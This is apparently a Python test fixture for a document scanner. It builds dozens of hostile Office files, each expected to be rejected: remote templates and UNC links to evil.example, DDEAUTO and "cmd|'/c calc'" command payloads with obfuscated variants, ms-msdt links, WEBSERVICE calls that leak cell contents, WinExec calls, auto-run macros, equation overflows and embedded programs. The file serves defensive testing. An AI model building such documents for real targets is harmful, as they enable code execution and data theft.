"""Office files that fetch, start or hide something; each differs from a good one in one known way."""

import struct

from documents.limits import MEGABYTE
from documents.tests.hostile import (
    DAMAGED,
    ELF,
    EXTERNAL,
    FILES,
    MACROS,
    NOT_SAFE,
    PROGRAMS,
    PROTECTED,
    write_compound,
)
from documents.tests.samples import EXCEL, POWERPOINT, WORD, archive, office, office_parts

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
UNC = "\\\\evil.example\\share\\a"
NEW_EXE = b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0" + bytes(300)
PLACES = {WORD: "word", EXCEL: "xl", POWERPOINT: "ppt"}
ENDINGS = {WORD: "a.docx", EXCEL: "a.xlsx", POWERPOINT: "a.pptx"}
LINK_MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
SCRIPT_MONIKER = bytes.fromhex("d30b2906aa48d2118432006008c3fbfc")
OLD_EQUATION = struct.pack("<HLHLLLLL", 28, 0x20000, 0xC1E5, 400, 0, 0, 0, 0) + b"\3\1\1\3\12\12"


def external(kind: str, target: str, *, family: str = WORD, place: str = "_rels/a.xml.rels") -> tuple:
    part = f"{PLACES[family]}/{place}"
    made = EXTERNAL.format(kind=kind, target=target.replace("&", "&amp;"))
    return ENDINGS[family], lambda: office(family, extra={part: made}), NOT_SAFE


def raw_external(attributes: str) -> tuple:
    made = f"<Relationships><Relationship Id='r' {attributes}/></Relationships>"
    return "a.docx", lambda: office(extra={"word/_rels/document.xml.rels": made}), NOT_SAFE


def link(target: str) -> tuple:
    return external("hyperlink", target)


def field(body: str, code: str = PROGRAMS, *, encoding: str = "utf-8") -> tuple:
    made = f"<w:document {W}><w:body>{body}</w:body></w:document>".encode(encoding)
    return "a.docx", lambda: office(extra={"word/document.xml": made}), code


def run(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def whole_field(*pieces: str) -> str:
    return f"<w:p>{mark('begin')}{''.join(pieces)}{mark('separate')}{mark('end')}</w:p>"


def sheet(formula: str, code: str = PROGRAMS) -> tuple:
    made = f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
    return "a.xlsx", lambda: office(EXCEL, extra={"xl/worksheets/sheet1.xml": made}), code


def workbook(inside: str, code: str) -> tuple:
    return "a.xlsx", lambda: office(EXCEL, extra={"xl/workbook.xml": f"<workbook>{inside}</workbook>"}), code


def connection(inside: str) -> tuple:
    made = f"<connections><connection id='1' {inside}</connection></connections>"
    return "a.xlsx", lambda: office(EXCEL, extra={"xl/connections.xml": made}), NOT_SAFE


def slide(inside: str, code: str = PROGRAMS) -> tuple:
    made = f"<p:sld xmlns:p='urn:p' xmlns:a='urn:a' xmlns:r='urn:r'>{inside}</p:sld>"
    return "a.pptx", lambda: office(POWERPOINT, extra={"ppt/slides/slide1.xml": made}), code


def part(name: str, content: str | bytes, code: str, family: str = WORD, **declared: str) -> tuple:
    return ENDINGS[family], lambda: office(family, extra={name: content}, **declared), code


def ole(tree: dict, code: str) -> tuple:
    return part("word/embeddings/oleObject1.bin", write_compound(tree), code)


def of_class(identifier: str) -> tuple:
    """An object that a control of this class would draw."""
    made = write_compound({"CONTENTS": b"x"})
    at = made.index("Root Entry".encode("utf-16-le")) + 80
    fields = identifier.split("-")
    number = b"".join(bytes.fromhex(each)[::-1] for each in fields[:3]) + bytes.fromhex("".join(fields[3:]))
    return part("word/embeddings/oleObject1.bin", made[:at] + number + made[at + 16 :], PROGRAMS)


def records(*pieces: tuple[int, bytes]) -> bytes:
    """Of an older Excel file."""
    return b"".join(struct.pack("<HH", kind, len(content)) + content for kind, content in pieces)


BOOK = (0x809, bytes(16))
XLM = (0x85, bytes(4) + b"\0\1\5\0Macro")
DDE_BOOK = (0x1AE, struct.pack("<HH", 1, 12) + b"\0cmd\3/c calc")
WAIT = {"\x01CompObj": b"x"}


def renamed_macro_sheet() -> bytes:
    relation = (
        "<Relationships><Relationship Id='r' Target='a/b.xml' "
        "Type='http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet'/></Relationships>"
    )
    return office(EXCEL, extra={"xl/_rels/workbook.xml.rels": relation, "xl/a/b.xml": "<x/>"})


def internal(kind: str, target: str) -> str:
    return f"<Relationships><Relationship Id='r' Type='http://x/{kind}' Target='{target}'/></Relationships>"


def many_embedded() -> bytes:
    inner = office(EXCEL, extra={"xl/a.bin": bytes(3 * MEGABYTE)})
    return archive(office_parts() | {f"word/embeddings/{n}.xlsx": inner for n in range(90)})


BAD = {
    "docx that fetches its template from a host": external("attachedTemplate", f"{UNC}.dotm"),
    "docx that fetches its template by file": external("attachedTemplate", "file://evil.example/a.dotm"),
    "docx that fetches its template by webdav": external("attachedTemplate", "webdav://evil.example/a.dotm"),
    "docx that fetches its template, percent": external("attachedTemplate", "%5c%5cevil.example%5ca.dotm"),
    "docx that fetches a piece": external("subDocument", "http://evil.example/a.docx"),
    "docx that fetches a picture": external("image", "http://evil.example/a.png"),
    "docx that fetches a picture of a host": external("image", f"{UNC}.png"),
    "docx that fetches a picture as a link": external("hyperlink/image", "http://evil.example/a.png"),
    "docx that fetches a film": external("video", "https://evil.example/a.mp4"),
    "docx that fetches its letters": external("mailMergeSource", f"{UNC}.csv"),
    "docx that fetches a header's picture": external("image", "http://x", place="_rels/header1.xml.rels"),
    "docx that fetches from deep inside": external("oleObject", "http://x", place="a/b/c/_rels/d.rels"),
    "docx that fetches a web page's piece": external("aFChunk", "http://evil.example/a.html"),
    "docx with a web page as a piece": part(
        "word/_rels/document.xml.rels", internal("aFChunk", "a.html"), NOT_SAFE
    ),
    "docx with a web archive as a piece": part(
        "word/_rels/document.xml.rels", internal("AFCHUNK", "/word/a.mht"), NOT_SAFE
    ),
    "docx with a web page among its parts": part("word/a.html", "<html/>", FILES),
    "docx with a link to a host": link(UNC),
    "docx with a link to a file": link("file:///C:/Windows/System32/calc.exe"),
    "docx with a link that is a script": link("javascript:alert(1)"),
    "docx with a link that begins Word": link("ms-word:ofe|u|http://evil.example/a.docx"),
    "docx with a link that diagnoses": link("ms-msdt:/id PCWDiagnostic /skip force"),
    "docx with a link that searches": link("search-ms:query=a&crumb=location:evil.example"),
    "docx with a link with a tab": link("java&#9;script:alert(1)"),
    "docx with a link to a file after a line": link("&#10;file:///C:/a.exe"),
    "docx with a link to a file behind a mark": link("&#8206;file:///C:/a.exe"),
    "docx with a link spelled with entities": link("&#102;ile:///C:/a.exe"),
    "docx with a link without a mode": raw_external("Type='http://x/image' Target='http://evil.example/a'"),
    "docx with a host without a mode": raw_external(f"Type='http://x/image' Target='{UNC}'"),
    "docx with a mode in blanks": raw_external(
        "Type='http://x/image' TargetMode=' External ' Target='http://evil.example/a'"
    ),
    "xlsx with a table of another host": external("externalLinkPath", f"{UNC}.xlsx", family=EXCEL),
    "xlsx with a table of the web": external("externalLinkPath", "https://evil.example/a.xlsx", family=EXCEL),
    "xlsx with a missing table of a host": external("externalLinkPath/xlPathMissing", UNC, family=EXCEL),
    "pptx with a sound of a host": external("audio", f"{UNC}.wav", family=POWERPOINT),
    "pptx with a film of the web": external("media", "http://evil.example/a.mp4", family=POWERPOINT),
    "pptx with a link to a program": external("hyperlink", "calc.exe", family=POWERPOINT),
    "docx with DDE in one run": field(whole_field(run('DDEAUTO c:\\a.exe "x"'))),
    "docx with DDE in three runs": field(whole_field(run("DD"), run("EAU"), run("TO c:\\a.exe"))),
    "docx with DDE in lower case": field(whole_field(run("ddeauto cmd x"))),
    "docx with DDE in a simple field": field('<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'),
    "docx with DDE with entities": field(whole_field(run("&#68;&#x44;E cmd x"))),
    "docx with DDE in CDATA": field(whole_field(run("<![CDATA[DDE]]>AUTO cmd"))),
    "docx with DDE in UTF-16": field(whole_field(run("DDEAUTO cmd x")), encoding="utf-16"),
    "docx with DDE in numbers": field(
        whole_field(whole_field(run("QUOTE 68 68 69 65 85 84 79 32")), run(" cmd x"))
    ),
    "docx with DDE in hexadecimal numbers": field(
        whole_field(whole_field(run("QUOTE 0x44 0x44 0x45")), run(" x"))
    ),
    "docx with DDE in numbers of several fields": field(
        whole_field(whole_field(run("QUOTE 68")), whole_field(run("QUOTE 68 69")), run(" cmd"))
    ),
    "docx with DDE in a deleted text": field(
        "<w:p><w:del><w:r><w:delInstrText>DDE cmd x</w:delInstrText></w:r></w:del></w:p>"
    ),
    "docx with DDE in a footer": part(
        "word/footer1.xml", f"<w:ftr {W}>{whole_field(run('DDEAUTO cmd'))}</w:ftr>", PROGRAMS
    ),
    "docx with DDE under another prefix": part(
        "word/a.xml", "<x:d xmlns:x='urn:w'><x:instrText>DDE cmd</x:instrText></x:d>", PROGRAMS
    ),
    "docx with a field that fetches": field(
        whole_field(run('INCLUDETEXT "http://evil.example/a"')), NOT_SAFE
    ),
    "docx with a field that shows a host": field(whole_field(run(f'INCLUDEPICTURE "{UNC}.png"')), NOT_SAFE),
    "docx with a field that fetches a picture": field(
        whole_field(run('INCLUDEPICTURE "http://evil.example/a.png" \\d')), NOT_SAFE
    ),
    "docx with a field linked to a host": field(
        whole_field(run(f'LINK Excel.Sheet.12 "{UNC}" a \\a')), NOT_SAFE
    ),
    "docx with a field that begins a program": field(
        whole_field(run('HYPERLINK "ms-msdt:/id PCWDiagnostic"')), NOT_SAFE
    ),
    "docx with a field that links to a host": field(whole_field(run(f'HYPERLINK "{UNC}.exe"')), NOT_SAFE),
    "docx with a picture drawn from elsewhere": field(
        '<w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/a"/></w:pict>',
        NOT_SAFE,
    ),
    "docx with a film in a page of the web": field(
        "<x:webVideoPr xmlns:x='urn:x' embeddedHtml='&lt;iframe src=http://evil.example>'/>", NOT_SAFE
    ),
    "xlsx with a command": sheet("cmd|'/c calc'!A1"),
    "xlsx with a command in entities": sheet("c&#109;d&#124;'/c calc'!A1"),
    "xlsx with a command in pieces": sheet("cmd<!-- x -->|<![CDATA['/c calc'!]]>A1"),
    "xlsx with a command in a sum": sheet("1+SUM(MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A1)"),
    "xlsx with a command in a name": workbook(
        "<definedNames><definedName name='a'>cmd|'/c calc'!A1</definedName></definedNames>", PROGRAMS
    ),
    "xlsx with a command in a rule": part(
        "xl/worksheets/sheet1.xml",
        "<worksheet><x:formula1 xmlns:x='u'>cmd|'/c calc'!A1</x:formula1></worksheet>",
        PROGRAMS,
        EXCEL,
    ),
    "xlsx that asks the web": sheet('_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)'),
    "xlsx that shows a picture of the web": sheet('_xlfn.IMAGE("http://evil.example/a.png")'),
    "xlsx that asks another program": sheet('RTD("evil.server",,"x")'),
    "xlsx that calls a library": sheet('CALL("Kernel32","WinExec","JCJ","calc",0)'),
    "xlsx with a link to a host by formula": sheet(f'HYPERLINK("{UNC}.exe","Offer")'),
    "xlsx with a link to a program by formula": sheet('HYPERLINK("ms-excel:ofe|u|http://evil.example")'),
    "xlsx that begins by itself": workbook(
        "<definedNames><definedName name='_xlnm.Auto_Open'>a!$A$1</definedName></definedNames>", MACROS
    ),
    "xlsx with a macro sheet under another name": ("a.xlsx", renamed_macro_sheet, MACROS),
    "xlsx with a macro sheet in its folder": part("xl/macrosheets/sheet1.xml", "<x/>", MACROS, EXCEL),
    "xlsx with a table of the web by query": connection("><webPr url='http://evil.example'/>"),
    "xlsx with a text of a host by query": connection(f"><textPr sourceFile='{UNC}.csv'/>"),
    "xlsx with a database by query": connection(
        "refreshOnLoad='1'><dbPr connection='Provider=SQLOLEDB;Server=evil.example' command='x'/>"
    ),
    "xlsx with a query file of a host": connection(f"odcFile='{UNC}.odc'><dbPr connection='x'/>"),
    "docx with buttons that call": part(
        "customUI/customUI.xml",
        "<customUI xmlns='http://schemas.microsoft.com/office/2006/01/customui' onLoad='a.Start'/>",
        MACROS,
    ),
    "docx with a control by its relation": part(
        "word/_rels/document.xml.rels", internal("control", "a/b.xml"), MACROS
    ),
    "docx with an add-in of a folder": part(
        "word/webextensions/webextension1.xml",
        f"<we:webextension xmlns:we='urn:we'><we:reference store='{UNC}' storeType='Filesystem'/></we:webextension>",
        NOT_SAFE,
    ),
    "pptx that starts a program": slide("<a:hlinkClick r:id='' action='ppaction://program'/>"),
    "pptx that starts a macro": slide("<a:hlinkHover r:id='' action='PPAction://Macro?name=Start'/>"),
    "pptx that opens an object by itself": slide("<p:cmd type='verb' cmd='0'/>"),
    "docx with a program of any kind": part("word/printerSettings1.bin", NEW_EXE, FILES),
    "xlsx with a program as printer settings": part(
        "xl/printerSettings/printerSettings1.bin", ELF, FILES, EXCEL
    ),
    "docx with a script among its parts": part("word/embeddings/a.js", "WScript.Echo(1)", FILES),
    "docx with a shortcut": part("word/embeddings/a.lnk", b"L\0\0\0\1\x14\2\0" + bytes(60), FILES),
    "docx with an object that is a link": ole(
        WAIT | {"\x01Ole": struct.pack("<LLLL", 0x2000001, 1, 1, 0) + bytes(40)}, NOT_SAFE
    ),
    "docx with an object of an address": ole(
        WAIT | {"\x01Ole": bytes(28) + LINK_MONIKER + bytes(40)}, NOT_SAFE
    ),
    "docx with an object of a script": ole(WAIT | {"a": bytes(28) + SCRIPT_MONIKER + bytes(40)}, NOT_SAFE),
    "docx with a formula that overflows": ole(
        {"Equation Native": OLD_EQUATION + b"\x08\1\1" + b"a" * 120}, PROGRAMS
    ),
    "docx with a browser": of_class("8856F961-340A-11D0-A96B-00C04FD705A2"),
    "docx with a film of Flash": of_class("D27CDB6E-AE6D-11CF-96B8-444553540000"),
    "docx with a linked object by its class": of_class("00000300-0000-0000-C000-000000000046"),
    "docx with an older table with macros": ole({"Workbook": records(BOOK, XLM, (10, b""))}, MACROS),
    "docx with an older table with DDE": ole({"Workbook": records(BOOK, DDE_BOOK, (10, b""))}, PROGRAMS),
    "docx with an older table with a password": ole({"Workbook": records(BOOK, (0x2F, bytes(6)))}, PROTECTED),
    "docx with an older letter with DDE": ole(
        {"WordDocument": bytes(900) + b"\x13 DDEAUTO cmd\x14\x15"}, PROGRAMS
    ),
    "docx with a part in another alphabet": part(
        "word/a.xml", "<?xml version='1.0' encoding='cp037'?><a/>", DAMAGED
    ),
    "docx with 90 tables that are bombs": ("a.docx", many_embedded, "FILE_ARCHIVE_TOO_BIG"),
}
